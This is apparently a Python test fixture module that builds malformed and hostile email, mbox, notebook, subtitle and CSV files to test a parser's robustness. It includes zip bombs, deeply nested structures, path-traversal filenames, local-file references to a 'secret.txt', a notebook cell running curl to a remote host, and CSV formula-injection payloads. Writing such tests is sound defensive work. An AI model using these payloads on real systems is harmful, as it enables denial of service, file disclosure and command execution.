
def _nested_parts(depth: int) -> bytes:
    out = (
        b"From: a@example.org\nTo: b@example.org\nSubject: s\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMIME-Version: 1.0\n"
    )
    for i in range(depth):
        out += b"Content-Type: multipart/mixed; boundary=%d\n\n--%d\n" % (i, i)
    return out + text(WORD)


def _nested_messages(depth: int) -> bytes:
    head = (
        b"From: a@example.org\nTo: b@example.org\nSubject: s\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMIME-Version: 1.0\n"
    )
    return (head + b"Content-Type: message/rfc822\n\n") * depth + head + b"\n" + WORD.encode()


def mailboxes(depth: int) -> bytes:
    """A mailbox attached to the message of a mailbox, and so on, as text: a level adds few bytes."""
    head = (
        b"From: a@example.org\nTo: b@example.org\nSubject: s\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMIME-Version: 1.0\n"
        b"Content-Type: multipart/mixed; boundary=B%d\n\n--B%d\n"
        b'Content-Type: application/x; name="m.mbox"\nContent-Disposition: attachment; filename="m.mbox"\n\n'
    )
    start = b"From a@example.org Mon Jan  1 00:00:00 2024\n"
    out = b"".join(b">" * i + start + head % (i, i) for i in range(depth))
    return out + b">" * depth + mbox([mail([text(WORD)])])


def _mailboxes_packed(depth: int) -> bytes:
    inner = mbox([mail([text(WORD)])])
    for _ in range(depth):
        inner = mbox([mail([attachment("m.mbox", inner)])])
    return inner


_MAIL: dict[str, Make] = {
    "parts": lambda at: _nested_parts(500),
    "deep parts": lambda at: _nested_parts(20_000),
    "messages": lambda at: _nested_messages(90),
    "deep messages": lambda at: _nested_messages(20_000),
    "mailboxes": lambda at: _mailboxes_packed(25),
    "many parts": lambda at: mail([text(WORD)] * 15_000),
    "boundary": lambda at: mail([text("--X\r\n--" * 100_000)]),
    "names": lambda at: mail(
        [
            text(WORD),
            *(
                attachment(name, b"text")
                for name in (
                    "../../x.txt",
                    "/etc/passwd",
                    "CON.txt",
                    "\x1b[31mred.txt",
                    "a\0b.txt",
                    "<b>.txt",
                    "x" * 90_000,
                )
            ),
        ]
    ),
    "parameters": lambda at: mail(
        [b"Content-Type: text/plain" + b"".join(b"; n*%d*=a" % i for i in range(20_000)) + b"\r\n\r\n" + WORD.encode()]
    ),
    "encoded words": lambda at: mail([text(WORD)], "X-Y: 1\r\nCc: " + "=?utf-8?q?a?= " * 50_000 + "\r\n"),
    "codec": lambda at: mail(
        [
            b"Content-Type: text/plain; charset=zlib_codec\r\n\r\n" + WORD.encode(),
            b'Content-Type: text/plain; charset="../../x"\r\n\r\nb',
        ],
        "Cc: =?zlib_codec?b?eJw=?=\r\n",
    ),
    "header": lambda at: mail([text(WORD)], "Cc: " + "(" * 100_000 + "\r\n"),
    "folded": lambda at: mail([text(WORD)], "Cc: a\r\n" + " b\r\n" * 60_000),
    "external body": lambda at: mail(
        [
            f'Content-Type: message/external-body; access-type=local-file; name="{at}/secret.txt"\r\n\r\nContent-Type: text/plain\r\n\r\n'.encode(),
            text(WORD),
        ]
    ),
    "html": lambda at: mail(
        [
            f'Content-Type: text/html\r\n\r\n<img src="{REMOTE}"><iframe src="file://{at}/secret.txt"></iframe>{WORD}'.encode()
        ]
    ),
    "zip bombs": lambda at: mail(
        [
            text(WORD),
            attachment("p.pdf", page(_flated(100))),
            attachment("i.png", png(65535, 65535, b"")),
            attachment("d.docx", _bomb()),
        ]
    ),
    "uuencoded": lambda at: mail(
        [
            b"Content-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode\r\n\r\nbegin 644 ../../x\r\n"
            + b"M"
            + b"a" * 60
            + b"\r\n" * 9999
        ]
    ),
    "tnef": lambda at: mail([text(WORD), attachment("winmail.dat", b"\x78\x9f\x3e\x22" + b"\xff" * 9999)]),
    "quoted": lambda at: mail(
        [b"Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" + b"=" * 1_000_000]
    ),
    "alternatives": lambda at: mail(
        [
            b"Content-Type: multipart/alternative; boundary=Y\r\n\r\n"
            + (
                b"--Y\r\n"
                + text(WORD)
                + b"\r\n--Y\r\nContent-Type: text/html\r\n\r\n"
                + b"<p><!-- <style>" * 5000
                + b"\r\n"
            )
            * 3
            + b"--Y--"
        ]
    ),
    "related": lambda at: mail(
        [
            b'Content-Type: multipart/related; boundary=Y; start="<a>"\r\n\r\n'
            + b"--Y\r\nContent-ID: <a>\r\nContent-Type: multipart/related; boundary=Z\r\n\r\n--Z--\r\n" * 1500
            + b"--Y--",
            text(WORD),
        ]
    ),
}
_MBOX: dict[str, Make] = {
    "mailboxes": lambda at: mailboxes(400),
    "deep mailboxes": lambda at: mailboxes(2000),
    "separators": lambda at: b"From a@example.org Mon Jan  1 00:00:00 2024\nA: b\n\n" * 15_000,
    "one line": lambda at: mbox([mail([text("a" * 4_000_000)])]),
    "messages": lambda at: mbox([mail([text(WORD)])] * 3000),
    "quotes": lambda at: mbox([mail([text(">" * 1_000_000 + "From x")])]),
}


def _bomb() -> bytes:
    from tests.support.hostile_packages import packages

    return packages()["docx: zeros"]("")


# Notebooks, subtitles, texts


def notebook(cells: object) -> bytes:
    """A notebook."""
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}).encode()


def _code(source: object, *outputs: object) -> dict[str, object]:
    return {"cell_type": "code", "source": source, "outputs": list(outputs)}


_NOTEBOOK: dict[str, Make] = {
    "deep": lambda at: b'{"nbformat": 4, "cells": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
    "deep output": lambda at: (
        b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": "said", "outputs": [{"output_type": "display_data", "data": {"application/json": '
        + b'{"a":' * 900
        + b"1"
        + b"}" * 900
        + b"}}]}]}"
    ),
    "cells": lambda at: notebook([_code("a")] * 60_000),
    "types": lambda at: notebook(
        [
            None,
            7,
            [],
            {},
            _code({"a": 1}),
            _code([[], None, 5, WORD]),
            _code(
                WORD,
                7,
                None,
                {"data": {"text/plain": {"a": [1]}}},
                {"output_type": "error", "traceback": 7, "ename": [], "evalue": {}},
            ),
        ]
    ),
    "numbers": lambda at: (
        b'{"nbformat": 4, "cells": [{"cell_type": "heading", "level": ' + b"9" * 5000 + b', "source": "said"}]}'
    ),
    "infinite": lambda at: (
        b'{"nbformat": NaN, "cells": [{"cell_type": "heading", "level": Infinity, "source": "said"}]}'
    ),
    "keys": lambda at: (
        b'{"nbformat": 4, "cells": [{' + b",".join(b'"k%d": 1' % i for i in range(60_000)) + b', "source": "said"}]}'
    ),
    "image": lambda at: notebook(
        [_code(WORD, {"output_type": "display_data", "data": {"image/png": "A" * 4_000_000}})]
    ),
    "embedded": lambda at: notebook(
        [{"cell_type": "markdown", "source": ("data:image/png;base64," + "A" * 50) * 20_000 + WORD}]
    ),
    "embedded open": lambda at: notebook(
        [{"cell_type": "markdown", "source": ("data:image/png;base64," + "A" * 39 + "!") * 20_000 + WORD}]
    ),
    "embedded half": lambda at: notebook(
        [{"cell_type": "markdown", "source": "data:" + "a" * 50_000 + "base64," + WORD}]
    ),
    "escapes": lambda at: notebook([_code(WORD, {"output_type": "stream", "text": "\x1b[" + "1;" * 100_000 + WORD})]),
    "html output": lambda at: notebook(
        [_code(WORD, {"output_type": "display_data", "data": {"text/html": "<" * 100_000}})]
    ),
    "surrogates": lambda at: b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": "said \\ud800 \\udfff"}]}',
    "script": lambda at: notebook(
        [
            _code(
                f"!curl {REMOTE}\n%run {at}/secret.txt",
                {"output_type": "display_data", "data": {"application/javascript": f"fetch('{REMOTE}')"}},
            )
        ]
    ),
}
_CUE = "00:00:01,000 --> 00:00:02,000\n"
_SUBTITLES: dict[str, Make] = {
    "roll up": lambda at: (
        f"1\n{_CUE}" + "a\n" * 20_000 + f"b\n\n2\n{_CUE}" + "a\n" * 60_000 + f"\n3\n{_CUE}" + "a\n" * 60_000
    ).encode(),
    "cues": lambda at: f"1\n{_CUE}{WORD}\n\n".encode() * 60_000,
    "times": lambda at: (f"1\n{_CUE}{WORD}\n\n" + "9" * 100_000 + " --> " + "9" * 100_000).encode(),
    "tags": lambda at: (f"1\n{_CUE}" + "<b" * 100_000 + WORD).encode(),
    "voices": lambda at: ("WEBVTT\n\n" + _CUE.replace(",", ".") + "<v " * 60_000 + WORD).encode(),
    "overrides": lambda at: (f"1\n{_CUE}" + "{\\" * 60_000 + WORD).encode(),
    "clocks": lambda at: (f"1\n{_CUE}" + "<00:00:00.00" * 100_000 + WORD).encode(),
    "blank lines": lambda at: (f"1\n{_CUE}{WORD}\n" + "\n" * 100_000 + "a").encode(),
    "entities": lambda at: (f"1\n{_CUE}" + "&#" * 60_000 + WORD).encode(),
    "ass": lambda at: b"[Events]\nFormat: " + b"a," * 50_000 + b"Text\nDialogue: " + b"b," * 50_000 + WORD.encode(),
    "ass commas": lambda at: (
        b"[Events]\n" + (b"Dialogue: 0,0:00:01.00,0:00:02.00,,,,,,," + b"{\\p1" * 5000 + b"\n") * 50
    ),
    "blocks": lambda at: ("WEBVTT\n\n" + "NOTE a\n\n" * 60_000 + _CUE.replace(",", ".") + WORD).encode(),
    "spaces": lambda at: (f"1\n{_CUE}" + " " * 1_000_000 + WORD + "\n" + " " * 1_000_000).encode(),
    "dashes": lambda at: (f"1\n{_CUE}" + "- a\n" * 50_000).encode(),
}
_TEXT: dict[str, Make] = {
    "line": lambda at: b"a" * 30_000_000,
    "quotes": lambda at: b'"' * 1_000_000 + b"said",
    "columns": lambda at: b"," * 1_000_000 + b"\nsaid",
    "lines": lambda at: b"\n" * 1_000_000 + b"said",
    "formulas": lambda at: f'=WEBSERVICE("{REMOTE}"),=cmd|"/C calc"!A0,{WORD}\n'.encode() * 1000,
    "nuls": lambda at: b"said\0" * 60_000,
    "high bytes": lambda at: random.Random(3).randbytes(2_000_000).replace(b"\0", b"a"),
    "escapes": lambda at: b"\x1b$B" * 50_000 + b"said",
    "terminal": lambda at: b"\x1b]0;title\x07\x1b[2J\x1b[31m" * 10 + b"said " * 1000,
    "bom": lambda at: b"\xff\xfe\0\0" + b"\xff\xff\xff\xff" * 100_000,
    "utf-16": lambda at: b"\xff\xfe" + b"\x00\xd8" * 100_000 + "said".encode("utf-16-le"),
    "returns": lambda at: b"\r" * 1_000_000 + b"said",
    "spaces": lambda at: b" " * 1_000_000 + b"said" + b" \t" * 1_000_000,
    "dots": lambda at: ("é".encode("latin-1") + b"." * 60) * 60_000 + b"\n" + "ü".encode() * 5,
}


def streams() -> dict[str, tuple[str, Make]]:
    """The files by "kind: what is wrong with them": their suffix, and what makes them."""
    found: dict[str, tuple[str, Make]] = {}

    def add(kind: str, suffix: str, own: dict[str, Make]) -> None:
        for what, make in own.items():
            found[f"{kind}: {what}"] = suffix, make

    for what, make in _IMAGE.items():
        found[f"image: {what}"] = _IMAGE_NAMES[what.partition(" ")[0]], make
    for kind, own in (("pdf", _PDF), ("xls", _XLS), ("msg", _MSG), ("rtf", _RTF), ("html", _HTML), ("mbox", _MBOX)):
        add(kind, kind, own)
    add("mail", "eml", _MAIL)
    add("notebook", "ipynb", _NOTEBOOK)
    add("subtitles", "srt", _SUBTITLES)
    add("text", "csv", _TEXT)
    good = well_formed_streams()
    for kind in ("xls", "msg"):
        add(kind, kind, {what: lambda at, data=data: data for what, data in _ole(good[kind]).items()})  # type: ignore[misc]
    return found
